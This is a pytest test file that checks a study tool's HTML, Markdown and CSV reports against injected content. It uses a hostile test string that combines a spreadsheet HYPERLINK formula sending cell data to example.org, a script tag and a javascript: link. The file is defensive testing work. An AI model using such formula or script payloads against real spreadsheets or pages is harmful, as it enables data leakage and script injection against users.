"""A report lets no text of a study act: not in a browser, not in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from study.cli.app import main
from study.console import visible
from study.report.charts.heatmap import heatmap_page
from study.report.document import Code, Document, Section
from study.report.markdown import to_markdown
from study.report.material import Material
from study.report.numbers import FORMULAS, to_csv
from tests.study.report.studies import PARALLEL, questions_in_two_languages, study
from trainables.storage import atomic as storage

HOSTILE = '=HYPERLINK("http://example.org/?"&A1)<script>alert(1)</script>[x](javascript:alert(2))'


class Tags(HTMLParser):
    """The tags of a page, in their order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def policy(page: str) -> dict[str, list[str]]:
    """What the page's policy allows; it must come before all that it could forbid."""
    tags = Tags(page).found
    [place] = [i for i, (_, a) in enumerate(tags) if a.get("http-equiv")]
    assert not {"style", "link", "img", "script", "svg", "body"} & {tag for tag, _ in tags[:place]}
    assert tags[place][1]["http-equiv"] == "Content-Security-Policy"
    parts = (part.split() for part in (tags[place][1]["content"] or "").split(";"))
    return {name: allowed for name, *allowed in parts}


def hostile(root: Path) -> None:
    path = root / "studies/s/plan.json"
    plan = storage.unseal(path.read_bytes())
    plan["question"] = HOSTILE
    plan["hypotheses"][0] |= {"name": HOSTILE, "why": HOSTILE}
    storage.write(path, storage.seal(plan))


def test_the_page_has_a_policy_that_lets_it_show_its_charts_and_no_more(root: Path) -> None:
    hostile(root)
    assert main(["report", "s", "--root", str(root)]) == 0
    page = (root / "reports/s/report.html").read_text(encoding="utf-8")
    rules = policy(page)
    assert rules["default-src"] == ["'none'"]
    assert rules["style-src"] == ["'unsafe-inline'"]
    assert rules["img-src"] == ["data:"]
    assert "script-src" not in rules
    tags = Tags(page).found
    assert "svg" in {tag for tag, _ in tags}
    assert not {"script", "iframe", "object", "embed", "img"} & {tag for tag, _ in tags}
    for tag, attributes in tags:
        assert not [name for name in attributes if name.startswith("on")]
        assert (attributes.get("href") or "#").startswith(("#", "data:,")), tag
    metrics = {f"map/mono/{x}": 0.5 for x in ("de", "en")} | {"map/cross/de-en": 0.25}
    heatmap = heatmap_page(HOSTILE, metrics)
    assert heatmap is not None
    assert policy(heatmap)["default-src"] == ["'none'"]
    assert "script" not in {tag for tag, _ in Tags(heatmap).found}


def test_no_markdown_holds_a_tag_a_link_or_the_end_of_its_code(root: Path) -> None:
    hostile(root)
    assert main(["report", "s", "--root", str(root)]) == 0
    for name in ("answer.md", "report.md"):
        text = (root / "reports/s" / name).read_text(encoding="utf-8")
        assert "alert(1)" in text
        assert not re.findall(r"(?<!\\)(<script|\[x\])", text)
    code = Document("t", "", "", (Section("s", (Code("a\n````\n<b>"),)),))
    assert to_markdown(code).count("`````\n") == 2


def test_no_cell_of_the_csv_begins_a_formula(root: Path) -> None:
    hostile(root)
    assert main(["report", "s", "--root", str(root)]) == 0
    text = (root / "reports/s/report.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert any(HOSTILE in cell for row in rows for cell in row)
    for row in rows[1:]:
        float(row[-1])
        assert not [cell for cell in row[:-1] if cell.startswith(tuple(FORMULAS))]
    assert any(row[-1].startswith("-") for row in rows[1:]), "numbers stay numbers"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_every_start_of_a_formula_is_made_inert(
    tmp_path: Path, start: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = study(tmp_path, questions_in_two_languages(), {0: [PARALLEL], 0.5: [PARALLEL]})
    lines: list[str] = []
    real: Callable[..., str] = to_csv

    def with_name(material: Material) -> str:
        named = tuple(
            replace(finding, hypothesis=f"{start}1+1") for finding in material.answer.findings
        )
        text = real(replace(material, answer=replace(material.answer, findings=named)))
        lines.extend(row[1] for row in csv.reader(io.StringIO(visible(text), newline="")))
        return text

    monkeypatch.setattr("study.report.numbers.to_csv", with_name)
    made.write()
    mine = [name for name in lines if "1+1" in name]
    assert mine
    assert all(name.startswith(visible(f"'{start}")) for name in mine)
